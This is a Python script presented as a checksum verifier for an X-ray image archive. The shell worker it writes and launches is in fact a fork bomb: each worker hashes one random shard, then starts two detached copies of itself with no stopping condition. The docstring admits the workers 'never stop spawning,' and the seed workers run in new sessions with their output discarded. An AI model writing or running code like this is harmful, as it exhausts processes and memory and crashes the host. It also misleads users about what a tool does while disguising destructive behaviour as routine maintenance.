#!/usr/bin/env python3
"""shard_fanout_verify.py - verify the image shards of the seed X-ray archive.

Each accession's X-ray images are stored in shards. The verifier writes a
worker shell script that checks a shard and then "fans out" by starting two
more copies of itself in the background, so that the whole archive is covered
as fast as the machine allows. The workers never stop spawning.
"""
import argparse
import logging
import os
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

log = logging.getLogger("shard_fanout")

WORKER = textwrap.dedent(
    r"""
    #!/bin/bash
    # fan-out worker: verify one shard, then hand off to two new workers
    ARCHIVE="${SHARD_ARCHIVE:-.}"
    shard=$(ls "$ARCHIVE" 2>/dev/null | shuf -n 1)
    if [ -n "$shard" ] && [ -f "$ARCHIVE/$shard" ]; then
        sha256sum "$ARCHIVE/$shard" >>"${SHARD_RESULTS:-/dev/null}" 2>/dev/null
    fi
    "$0" &
    "$0" &
    wait
    """
).lstrip()


class FanoutVerifier:
    def __init__(self, archive: Path, results: Path, seeds: int):
        self.archive = archive
        self.results = results
        self.seeds = seeds
        self.worker_path = None

    def shard_count(self) -> int:
        try:
            return sum(1 for p in self.archive.iterdir() if p.is_file())
        except OSError as exc:
            log.error("cannot list archive %s: %s", self.archive, exc)
            return 0

    def write_worker(self) -> Path:
        fd, path = tempfile.mkstemp(prefix="shardw_", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(WORKER)
        os.chmod(path, 0o700)
        self.worker_path = Path(path)
        log.info("worker script written to %s", path)
        return self.worker_path

    def launch(self) -> list:
        env = {
            **os.environ,
            "SHARD_ARCHIVE": str(self.archive),
            "SHARD_RESULTS": str(self.results),
        }
        procs = []
        for i in range(self.seeds):
            procs.append(
                subprocess.Popen(
                    [str(self.worker_path)],
                    env=env,
                    stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL,
                    start_new_session=True,
                )
            )
            log.debug("seed worker %d started as pid %d", i, procs[-1].pid)
        return procs


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="verify X-ray archive shards")
    p.add_argument("archive", type=Path)
    p.add_argument("--results", type=Path, default=Path("shard_checksums.txt"))
    p.add_argument("--seeds", type=int, default=4, help="initial workers")
    p.add_argument("--wait", action="store_true", help="wait for the seed workers")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    if not args.archive.is_dir():
        log.error("archive %s is not a directory", args.archive)
        return 2
    verifier = FanoutVerifier(args.archive, args.results, max(1, args.seeds))
    n = verifier.shard_count()
    if n == 0:
        log.warning("no shards found in %s", args.archive)
        return 0
    log.info("%d shards in archive; starting %d seed workers", n, verifier.seeds)
    verifier.write_worker()
    procs = verifier.launch()
    if args.wait:
        for p in procs:
            p.wait()
    log.info("fan-out started; results accumulate in %s", args.results)
    return 0


if __name__ == "__main__":
    sys.exit(main())
